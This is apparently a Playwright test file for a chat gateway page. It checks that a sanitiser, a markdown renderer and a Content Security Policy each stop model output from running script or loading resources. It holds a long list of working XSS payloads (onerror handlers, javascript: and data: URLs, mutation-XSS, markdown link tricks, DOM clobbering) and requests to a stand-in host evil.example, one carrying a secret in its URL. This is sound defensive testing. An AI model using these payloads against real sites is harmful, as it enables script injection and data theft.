"""Nothing that a model writes runs, loads or deceives: three walls, each tested without the others."""

import json

from playwright.sync_api import BrowserContext, Page, expect

from g4flite.apps.gateway import page as served
from tests.page.conftest import ready
from tests.page.gateway import Gateway, whole
from tests.rows import rows

# Each sets window.hit if it runs, and asks /loaded if it loads.
PAYLOADS = [
    "<script>hit = 1</script>",
    "<img src=x onerror='hit = 1'>",
    "<svg onload='hit = 1'></svg>",
    "<svg><script>hit = 1</script></svg>",
    "<svg><a xlink:href='javascript:hit=1'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hit=1&gt;'>",
    "<iframe srcdoc='<script>parent.hit = 1</script>'></iframe>",
    "<iframe src='javascript:parent.hit=1'></iframe>",
    "<object data='/loaded'></object><embed src='/loaded'>",
    "<style>@import '/loaded'; body { display: none }</style>",
    "<link rel=stylesheet href=/loaded>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0; url=/loaded'>",
    "<form action=/loaded><button autofocus>Enter your key</button><input name=key></form>",
    "<details open ontoggle='hit = 1'><summary>x</summary></details>",
    "<a href='javascript:hit=1'>x</a>",
    "<a href='data:text/html,<script>opener.hit=1</script>'>x</a>",
    "<a href='vbscript:hit'>x</a>",
    "<div style='position:fixed;inset:0;background:url(/loaded)'>x</div>",
    "<p id=prompt name=chats class=error>clobbered</p>",
    "<video src=/loaded autoplay></video><audio src=/loaded></audio><picture><source srcset=/loaded><img></picture>",
    "<template><script>hit = 1</script></template>",
    "<x onclick=hit=1 tabindex=1 autofocus onfocus=hit=1>x</x>",
    "[x](javascript:hit=1)",
    "[x](JaVaScRiPt:hit=1)",
    "[x](java\tscript:hit=1)",
    "[x](&#106;avascript:hit=1)",
    "[x]( \x01javascript:hit=1)",
    "[x](data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==)",
    "[x](/loaded 'a\" onmouseover=\"hit=1')",
    "<javascript:hit=1>",
    "![x](/loaded)",
    "![x](https://evil.example/?secret)",
    "![x\" onerror=\"hit=1](x)",
    "![x](javascript:hit=1)",
    "```html\n<script>hit = 1</script>\n```",
    "```\"><img src=x onerror=hit=1>\ncode\n```",
    "`<script>hit = 1</script>`",
    "| <img src=x onerror=hit=1> |\n|---|\n| <script>hit = 1</script> |",
    "# <img src=x onerror=hit=1>",
    "[x]: javascript:hit=1\n\n[x]",
    "<!--><img src=x onerror=hit=1>-->",
    "<![CDATA[><img src=x onerror=hit=1>]]>",
    "<img src=x onerror=hit=1",
    "\u0000<scr\u0000ipt>hit = 1</script>",
]  # fmt: skip

# Return what is dangerous in the answers that are shown: tags, attributes, URLs.
FOUND = """() => {
    const good = "A ARTICLE BLOCKQUOTE BR BUTTON CODE DEL DIV EM H1 H2 H3 H4 H5 H6 HR LI OL P PRE SPAN STRONG SUB SUP "
        + "SVG USE TABLE TBODY TD TH THEAD TR UL";
    const found = [];
    for (const node of document.querySelectorAll(".assistant *")) {
        if (!good.split(" ").includes(node.nodeName.toUpperCase())) found.push(node.nodeName);
        if (node.closest(".text") === null || node.closest("button")) continue;
        for (const {name, value} of node.attributes) {
            if (/^on|style|^id$|^name$|src/i.test(name)) found.push(`${name}=${value}`);
            if (name === "href" && !/^(https?:|mailto:)/.test(value)) found.push(value);
        }
        if (node.nodeName === "A" && node.rel !== "noopener noreferrer nofollow") found.push("rel");
    }
    return found;
}"""


def show(page: Page, gateway: Gateway, payload: str) -> None:
    """Show an answer, and do what a reader might do with it."""
    gateway.replies.append(whole(payload))
    page.keyboard.press("Alt+n")
    page.locator("#prompt").fill("Hi")
    page.locator("#prompt").press("Enter")
    expect(page.locator(".assistant .figures")).to_be_visible()


@rows("payload", PAYLOADS)
def test_nothing_that_an_answer_holds_runs_or_loads(payload: str, page: Page, gateway: Gateway) -> None:
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    show(page, gateway, payload)
    assert page.evaluate(FOUND) == []
    assert page.evaluate("() => window.hit") is None
    assert {url.removeprefix(gateway.url) for url in asked} == {"v1/chat/completions"}
    # What the model wrote is shown, and not dropped without a word.
    assert page.locator(".assistant .text").inner_text().strip() != ""


@rows("payload", PAYLOADS)
def test_the_sanitiser_holds_without_the_renderer(
    payload: str, page: Page, gateway: Gateway, complaints: list[str]
) -> None:
    script = """async payload => {
        const { sanitised } = await import("./page/markdown.js");
        const article = document.createElement("article");
        article.className = "assistant";
        const text = document.createElement("div");
        text.className = "text";
        text.append(sanitised(payload), sanitised(marked.parse(payload)));
        article.append(text);
        document.querySelector("#log").replaceChildren(article);
    }"""
    page.evaluate(script, payload)
    assert page.evaluate(FOUND) == []
    assert page.evaluate("() => window.hit") is None
    # The browser tells of what the policy forbids already while DOMPurify parses it.
    assert all("violates the following Content Security Policy" in complaint for complaint in complaints), complaints
    complaints.clear()


def test_the_policy_holds_without_both(page: Page, gateway: Gateway, complaints: list[str]) -> None:
    script = """async () => {
        const tried = {};
        const attempt = async (name, work) => {
            try { await work(); tried[name] = "done"; } catch (error) { tried[name] = error.name; }
        };
        const body = document.body;
        const add = (tag, set) => { const made = document.createElement(tag); set(made); body.append(made); };
        await attempt("innerHTML", () => { body.insertAdjacentHTML("beforeend", "<img src=x onerror=hit=1>"); });
        await attempt("policy", () => trustedTypes.createPolicy("mine", {createHTML: text => text}));
        await attempt("script", () => add("script", made => { made.text = "hit = 1"; }));
        await attempt("elsewhere", () => fetch("https://evil.example/"));
        await attempt("image", () => new Promise((resolve, reject) => add("img", made => {
            made.onload = resolve; made.onerror = () => reject(new TypeError()); made.src = "https://evil.example/x.png";
        })));
        add("div", made => { made.setAttribute("style", "color: rgb(1, 2, 3)"); made.id = "styled"; });
        tried.style = getComputedStyle(document.querySelector("#styled")).color;
        tried.hit = window.hit ?? null;
        return tried;
    }"""
    tried = page.evaluate(script)
    assert tried.pop("style") != "rgb(1, 2, 3)"
    assert tried == {
        "innerHTML": "TypeError", "policy": "TypeError", "script": "TypeError", "elsewhere": "TypeError",
        "image": "TypeError", "hit": None,
    }  # fmt: skip
    assert len(complaints) > 3
    complaints.clear()


def test_the_page_asks_nobody_but_its_own_origin(context: BrowserContext, gateway: Gateway) -> None:
    page = context.new_page()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    ready(page, gateway.url)
    show(page, gateway, "Hi")
    assert {url.removeprefix(gateway.url) for url in asked} == {
        "", "v1/models", "v1/chat/completions", *(path[1:] for path in served.FILES),
    }  # fmt: skip


def test_a_title_and_a_model_are_text(
    context: BrowserContext, gateway: Gateway, complaints: list[str], page: Page
) -> None:
    markup = "<img src=x onerror=hit=1>"
    gateway.models = [markup, "fast"]
    page.reload()
    expect(page.locator("#model option").first).to_have_text(markup)
    page.locator("#prompt").fill(markup)
    page.locator("#prompt").press("Enter")
    expect(page.locator("#chats .chat")).to_have_text(markup)
    expect(page.locator(".user .bubble")).to_have_text(markup)
    assert page.evaluate("() => window.hit") is None
    assert json.dumps(markup)[1:-1] in json.dumps(gateway.requests[-1])
